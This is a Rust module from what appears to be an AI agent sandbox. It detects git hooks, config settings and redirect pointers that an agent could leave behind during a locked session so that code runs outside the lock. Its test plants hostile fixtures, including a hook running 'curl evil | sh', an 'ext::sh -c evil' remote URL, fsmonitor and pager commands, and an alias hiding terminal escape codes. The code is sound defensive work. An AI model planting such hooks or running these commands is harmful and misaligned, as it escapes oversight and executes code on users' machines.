//! What a lock left git to run outside it, found afterwards. The kernel protects the git files
//! that exist when a lock starts (`git`); a repository made during the lock, a `.git/commondir`
//! or `.git` file pointing git at a folder of the agent's making, a linked hook, or a setting in
//! a repository deeper than that walk cannot be. So a snapshot of every git folder's config,
//! hooks and pointers in the writable folders is taken when the lock starts and compared when
//! it ends. Settings are judged by an allow-list: any new setting that is not known to be inert
//! is named (git has too many ways to run a command to list them all).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// How many folders the walk visits per writable folder; a larger tree is named as not seen
/// whole.
const MAX_FOLDERS: usize = 200_000;
/// The largest file read whole (configs and hooks are small); a larger one is named as such.
const MAX_FILE: u64 = 64 * 1024 * 1024;
/// Folders inside a git folder that hold data, never commands.
const GIT_DATA: &[&str] = &["objects", "refs", "logs", "lfs"];
/// Git's files in a git folder that can send it elsewhere or make it run something.
const WATCHED: &[&str] = &["config", "config.worktree", "commondir", "gitdir"];

/// One watched file as it was: a link (its target) or a file (its mode and first bytes).
#[derive(Clone, Debug, PartialEq, Eq)]
enum Seen {
    Link(PathBuf),
    File {
        mode: u32,
        bytes: Vec<u8>,
    },
    /// Larger than `MAX_FILE`: not read (its length and modification time tell a change).
    TooLarge {
        len: u64,
        modified: Option<std::time::SystemTime>,
    },
    /// Neither a file nor a link (a pipe, a device): not read.
    Other,
}

/// Git's watched files under some folders at one time, and the folders too large to see whole.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct GitSnapshot {
    files: BTreeMap<PathBuf, Seen>,
    partly_seen: Vec<PathBuf>,
    /// Folders whose contents could not be listed.
    unreadable: Vec<PathBuf>,
}

/// Git's watched files under `folders` now, breadth first (so a deep or wide tree cannot hide
/// the shallow repositories), plus every file `known` names wherever the walk got to.
pub fn snapshot(folders: &[PathBuf]) -> GitSnapshot {
    snapshot_with(folders, &GitSnapshot::default())
}

/// `snapshot`, reading again every file `before` held (a change to one is never missed for want
/// of the walk reaching it).
pub fn snapshot_again(folders: &[PathBuf], before: &GitSnapshot) -> GitSnapshot {
    snapshot_with(folders, before)
}

fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
    let mut snapshot = GitSnapshot::default();
    for path in known.files.keys() {
        record(&mut snapshot.files, path);
    }
    for folder in folders {
        // Each writable folder's own repository first, whatever else the walk meets.
        for name in WATCHED {
            record(&mut snapshot.files, &folder.join(".git").join(name));
        }
        let mut queue = std::collections::VecDeque::from([folder.clone()]);
        let mut visited = 0;
        while let Some(dir) = queue.pop_front() {
            visited += 1;
            if visited > MAX_FOLDERS {
                snapshot.partly_seen.push(folder.clone());
                break;
            }
            let is_git = dir.file_name().is_some_and(|n| n == ".git") || git_like(&dir);
            if is_git {
                for name in WATCHED {
                    record(&mut snapshot.files, &dir.join(name));
                }
                for hook in std::fs::read_dir(dir.join("hooks")).into_iter().flatten().flatten() {
                    record(&mut snapshot.files, &hook.path());
                }
            }
            let entries = match std::fs::read_dir(&dir) {
                Ok(entries) => entries,
                // A folder the agent made unreadable hides what is below it: said.
                Err(_) => {
                    snapshot.unreadable.push(dir.clone());
                    continue;
                }
            };
            for entry in entries.flatten() {
                let Ok(kind) = entry.file_type() else { continue };
                let name = entry.file_name();
                if name == ".git" && !kind.is_dir() {
                    // A worktree's or submodule's pointer to its git folder.
                    record(&mut snapshot.files, &entry.path());
                } else if kind.is_dir() && !(is_git && GIT_DATA.iter().any(|s| name == *s)) {
                    queue.push_back(entry.path());
                }
            }
        }
    }
    snapshot
}

/// A git folder by its contents: `HEAD` and objects of its own or a common folder elsewhere
/// (a linked worktree's admin folder).
fn git_like(dir: &Path) -> bool {
    // Not followed: git takes a HEAD that is a link (to `refs/heads/main`), and objects that are.
    let there = |name: &str| dir.join(name).symlink_metadata().is_ok();
    there("HEAD") && (there("objects") || there("commondir"))
}

/// Remember `path` without following it: a link by its target, a file by its first bytes.
fn record(files: &mut BTreeMap<PathBuf, Seen>, path: &Path) {
    use std::io::Read;
    let Ok(meta) = path.symlink_metadata() else { return };
    if meta.file_type().is_symlink() {
        let target = std::fs::read_link(path).unwrap_or_default();
        files.insert(path.to_owned(), Seen::Link(target));
    } else if !meta.is_file() {
        files.insert(path.to_owned(), Seen::Other);
    } else if meta.len() > MAX_FILE {
        let seen = Seen::TooLarge { len: meta.len(), modified: meta.modified().ok() };
        files.insert(path.to_owned(), seen);
    } else if meta.is_file() {
        let mut bytes = Vec::new();
        // O_NOFOLLOW: the name was a file a moment ago; if it is a link now, it is not read.
        let opened = open_no_follow(path);
        if opened.and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes)).is_ok() {
            files.insert(path.to_owned(), Seen::File { mode: mode(&meta), bytes });
        }
    }
}

#[cfg(unix)]
fn open_no_follow(path: &Path) -> std::io::Result<std::fs::File> {
    use std::os::unix::fs::OpenOptionsExt;
    std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(path)
}

#[cfg(not(unix))]
fn open_no_follow(path: &Path) -> std::io::Result<std::fs::File> {
    std::fs::File::open(path)
}

#[cfg(unix)]
fn mode(meta: &std::fs::Metadata) -> u32 {
    std::os::unix::fs::PermissionsExt::mode(&meta.permissions())
}

#[cfg(not(unix))]
fn mode(_meta: &std::fs::Metadata) -> u32 {
    0o755
}

/// What git would run, or where it would be sent, that was not so `before`: one line per new
/// or changed hook, pointer or setting, naming the file; and each folder not seen whole.
pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
    let mut found = Vec::new();
    for (path, seen) in &after.files {
        let earlier = before.files.get(path);
        if earlier == Some(seen) {
            continue;
        }
        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
        let in_hooks = path.parent().and_then(Path::file_name).is_some_and(|n| n == "hooks");
        let shown = path.display();
        match seen {
            _ if in_hooks && name.ends_with(".sample") => {}
            Seen::Other if in_hooks => {}
            Seen::Other => found.push(format!("{shown} is not a regular file: look at it")),
            Seen::TooLarge { len, .. } => {
                found.push(format!("{shown} is {len} bytes, too large to read: look at it"));
            }
            Seen::Link(target) => {
                found.push(format!("{shown} is a link to {}", target.display()));
            }
            Seen::File { mode, bytes } if in_hooks => {
                if mode & 0o111 != 0 {
                    let text = String::from_utf8_lossy(bytes);
                    found.push(format!("{shown} runs {}", first_command(&text)));
                }
            }
            Seen::File { bytes, .. } if name == "config" || name == "config.worktree" => {
                let old = match earlier {
                    Some(Seen::File { bytes, .. }) => settings(&String::from_utf8_lossy(bytes)),
                    _ => Vec::new(),
                };
                for (key, value) in settings(&String::from_utf8_lossy(bytes)) {
                    if !inert(&key, &value) && !old.contains(&(key.clone(), value.clone())) {
                        found.push(format!("{shown} sets {key} = {value}"));
                    }
                }
            }
            Seen::File { bytes, .. } => {
                let target = String::from_utf8_lossy(bytes);
                let target = target.trim().trim_start_matches("gitdir:").trim();
                found.push(format!("{shown} sends git to {}", shorten(target)));
            }
        }
    }
    for folder in after.unreadable.iter().filter(|f| !before.unreadable.contains(f)) {
        found.push(format!(
            "{} cannot be listed: what is below it was not looked at, so treat every \
             repository in it as untrusted",
            folder.display()
        ));
    }
    for folder in &after.partly_seen {
        found.push(format!(
            "{} holds more than {MAX_FOLDERS} folders: only part of it was looked at, so treat \
             every repository in it as untrusted",
            folder.display()
        ));
    }
    found.iter().map(|line| super::visible(line)).collect()
}

/// A hook's first line that is not its interpreter line or a comment, shortened.
fn first_command(text: &str) -> String {
    let line = text
        .lines()
        .map(str::trim)
        .find(|l| !l.is_empty() && !l.starts_with('#'))
        .unwrap_or("(its script)");
    shorten(line)
}

fn shorten(text: &str) -> String {
    let mut short: String = text.chars().take(80).collect();
    if text.chars().count() > 80 {
        short.push('…');
    }
    short
}

/// A git config file's settings, as (section.key, value): section and key names lowercased,
/// subsection names as written.
fn settings(text: &str) -> Vec<(String, String)> {
    let mut section = String::new();
    let mut found = Vec::new();
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    for line in text.lines().map(str::trim) {
        let mut line = line;
        // Git reads several headers on one line, and a setting after them: `[a] [core] x = …`.
        while let Some((header, rest)) = line.strip_prefix('[').and_then(|l| l.split_once(']')) {
            let (name, sub) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
            let sub = sub.trim().trim_matches('"');
            section = match sub.is_empty() {
                true => name.trim().to_lowercase(),
                false => format!("{}.{sub}", name.to_lowercase()),
            };
            line = rest.trim();
        }
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        // `key = value`, or a bare `key` (true).
        let (key, value) = line.split_once('=').unwrap_or((line, "true"));
        let key = format!("{section}.{}", key.trim().to_lowercase());
        found.push((key, shorten(value.trim().trim_matches('"'))));
    }
    found
}

/// Settings known to make git run nothing and send it nowhere new; any other is named. A URL
/// with a transport (`ext::sh -c …`, `helper::…`) runs a program, so it is not inert.
fn inert(key: &str, value: &str) -> bool {
    if value.contains("::") {
        return false;
    }
    const INERT: &[&str] = &[
        "core.repositoryformatversion",
        "core.filemode",
        "core.bare",
        "core.logallrefupdates",
        "core.ignorecase",
        "core.precomposeunicode",
        "core.symlinks",
        "core.autocrlf",
        "core.eol",
        "core.safecrlf",
        "core.quotepath",
        "core.untrackedcache",
        "core.commitgraph",
        "core.abbrev",
        "user.name",
        "user.email",
        "init.defaultbranch",
        "pull.rebase",
        "pull.ff",
        "push.default",
        "push.autosetupremote",
        "fetch.prune",
        "extensions.objectformat",
        "extensions.worktreeconfig",
        "gc.auto",
        "merge.conflictstyle",
        "rerere.enabled",
        "lfs.repositoryformatversion",
    ];
    let per_name = |prefix: &str, keys: &[&str]| {
        key.strip_prefix(prefix).is_some_and(|rest| keys.iter().any(|k| rest.ends_with(k)))
    };
    INERT.contains(&key)
        || per_name("remote.", &[".url", ".fetch", ".pushurl", ".tagopt", ".prune"])
        || per_name("branch.", &[".remote", ".merge", ".rebase", ".description"])
        || per_name("submodule.", &[".url", ".active", ".branch"])
}

#[cfg(all(test, unix))]
mod tests {
    use super::*;

    fn executable(path: &Path, text: &str) {
        std::fs::write(path, text).expect("write");
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .expect("chmod");
    }

    #[test]
    fn what_a_lock_left_git_to_run_is_named() {
        let dir = std::env::temp_dir().join(format!("paddock-planted-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("app/.git/hooks")).expect("app");
        std::fs::create_dir_all(dir.join("app/.git/objects")).expect("objects");
        std::fs::write(dir.join("app/.git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
        std::fs::write(dir.join("app/.git/config"), "[core]\n\tbare = false\n").expect("config");
        let before = snapshot(std::slice::from_ref(&dir));
        assert!(planted(&before, &before).is_empty());
        // The protected repository redirected; new ones deep and in skipped-looking folders.
        std::fs::write(dir.join("app/.git/commondir"), "../evil\n").expect("commondir");
        let deep = dir.join("node_modules/a/b/c/d/e/f/g/h/i/j/.git");
        std::fs::create_dir_all(deep.join("hooks")).expect("deep");
        executable(&deep.join("hooks/post-checkout"), "#!/bin/sh\n# tidy\ncurl evil | sh\n");
        executable(&deep.join("hooks/pre-push.sample"), "#!/bin/sh\nexit 0\n");
        std::os::unix::fs::symlink("/bin/true", deep.join("hooks/pre-commit")).expect("link");
        let config = "[core]\n\tbare = false\n\tfsmonitor = ./x.sh\n[user]\n\temail = a@b\n\
                      [pager] log = ./evil\n[remote \"o\"]\n\turl = ../x\n\tuploadpack = ./evil\n\
                      [remote \"e\"]\n\turl = ext::sh -c evil\n\
                      [alias]\n\tx = !printf '\\033[2K'\x1b[1A\n";
        std::fs::write(deep.join("config"), config).expect("config");
        // A folder far deeper than any repository does not hide the ones above it.
        let mut far = dir.join("zz");
        for _ in 0..40 {
            far.push("d");
        }
        std::fs::create_dir_all(&far).expect("deep folders");
        // A bare repository whose HEAD is a link, with a setting after two headers on one
        // line and a byte-order mark.
        let bare = dir.join("src");
        std::fs::create_dir_all(bare.join("objects")).expect("objects");
        std::os::unix::fs::symlink("refs/heads/main", bare.join("HEAD")).expect("HEAD link");
        std::fs::write(bare.join("config"), "\u{feff}[user] [core] fsmonitor = ./fsm\n")
            .expect("config");
        let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
        let d = deep.display();
        assert_eq!(
            found,
            [
                format!("{}/app/.git/commondir sends git to ../evil", dir.display()),
                format!("{d}/config sets core.fsmonitor = ./x.sh"),
                format!("{d}/config sets pager.log = ./evil"),
                format!("{d}/config sets remote.o.uploadpack = ./evil"),
                format!("{d}/config sets remote.e.url = ext::sh -c evil"),
                format!("{d}/config sets alias.x = !printf '\\033[2K'\\u{{1b}}[1A"),
                format!("{d}/hooks/post-checkout runs curl evil | sh"),
                format!("{d}/hooks/pre-commit is a link to /bin/true"),
                format!("{}/src/config sets core.fsmonitor = ./fsm", dir.display()),
            ]
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}
